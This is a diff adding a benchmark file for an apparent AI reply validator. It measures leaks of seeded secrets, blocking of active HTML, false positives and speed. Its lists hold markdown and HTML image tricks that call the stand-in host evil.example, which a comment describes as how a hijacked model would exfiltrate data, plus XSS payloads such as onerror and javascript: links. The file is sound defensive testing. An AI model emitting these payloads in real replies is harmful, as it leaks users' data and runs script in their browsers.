@@ -1,0 +1,110 @@
+import { createResponseValidator } from '@sallyport/response-validator';
+import sanitizeHtml from 'sanitize-html';
+import { corpus, prose } from '../corpora/secrets.mjs';
+import { sideBySide } from '../measure.mjs';
+
+const completion = (content) =>
+  JSON.stringify({
+    id: 'c1',
+    object: 'chat.completion',
+    choices: [{ index: 0, message: { role: 'assistant', content }, finish_reason: 'stop' }],
+    usage: { prompt_tokens: 9, completion_tokens: 9 },
+  });
+const inspector = async (options) => (await createResponseValidator(options).check({ principal: undefined })).reply;
+const inspect = async (reply, content) =>
+  reply.inspect({ statusCode: 200, contentType: 'application/json', text: completion(content) });
+const leaves = (verdict, content) =>
+  verdict.action === 'deny' ? '' : verdict.action === 'replace' ? verdict.text : content;
+
+// Ways to make a page fetch a foreign address, or to run a script, as a hijacked model would write them.
+const HOST = 'evil.example';
+const images = [
+  `![a](https://${HOST}/?d=1)`,
+  `![a]( https://${HOST}/?d=1 "t")`,
+  `![a][r]\n\n[r]: https://${HOST}/?d=1`,
+  `<img src="https://${HOST}/?d=1">`,
+  `<IMG SRC=//${HOST}/a>`,
+  `<img srcset="https://${HOST}/a 1x">`,
+  `![a](//${HOST}/a)`,
+  `![a](https://good.example@${HOST}/a)`,
+  `![a](https:\\\\${HOST}/a)`,
+  `<video poster="https://${HOST}/a"></video>`,
+];
+const scripts = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<iframe srcdoc="<script>1</script>"></iframe>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<form action="https://evil.example"><input></form>',
+  '<style>@import "https://evil.example"</style>',
+  '<meta http-equiv=refresh content=0>',
+];
+const active = /<script|onerror|onload|<iframe|javascript:|<form|<style|<meta/i;
+
+export const figures = [
+  {
+    what: 'seeded secrets that leave in a JSON reply, of 600',
+    max: 6,
+    measure: async () => {
+      const reply = await inspector({ secrets: 'redact' });
+      const credentials = corpus(9).values.filter(
+        ({ kind }) => !/^(card|card-spaced|iban|ssn|email|phone|ipv4)$/.test(kind),
+      );
+      let left = 0;
+      for (const { text, secret } of credentials) {
+        const out = leaves(await inspect(reply, text), completion(text));
+        if (out.includes(JSON.stringify(secret).slice(1, -1))) left++;
+      }
+      return { value: left };
+    },
+  },
+  {
+    what: 'ways to fetch a foreign image that leave, of 10',
+    max: 0,
+    measure: async () => {
+      const reply = await inspector({});
+      const verdicts = await Promise.all(images.map((content) => inspect(reply, `Here: ${content}`)));
+      return { value: verdicts.filter((verdict, index) => leaves(verdict, images[index]).includes(HOST)).length };
+    },
+  },
+  {
+    what: 'active HTML that leaves, of 8',
+    max: 0,
+    measure: async () => {
+      const reply = await inspector({ images: 'allow', links: 'allow' });
+      const verdicts = await Promise.all(scripts.map((content) => inspect(reply, `Look ${content}`)));
+      return { value: verdicts.filter((verdict, index) => active.test(leaves(verdict, scripts[index]))).length };
+    },
+  },
+  {
+    what: 'ordinary replies changed or refused, of 300',
+    max: 0,
+    measure: async () => {
+      const reply = await inspector({});
+      let touched = 0;
+      for (let index = 0; index < 300; index++) {
+        const content = `${prose(600, index)} See \`a < b && c > d\` and [our page](/help).`;
+        if ((await inspect(reply, content)).action !== 'release') touched++;
+      }
+      return { value: touched };
+    },
+  },
+  {
+    what: 'time to validate a 2 KB reply with the defaults, times sanitize-html on its text',
+    max: 12,
+    measure: async () => {
+      const reply = await inspector({});
+      const content = prose(2048, 3);
+      const result = await sideBySide(
+        () => inspect(reply, content),
+        () => sanitizeHtml(content),
+        { batch: 50 },
+      );
+      return {
+        value: result.ratio,
+        peer: `sanitize-html ${result.theirs.toFixed(0)} us; ours ${result.ours.toFixed(0)}`,
+      };
+    },
+  },
+];
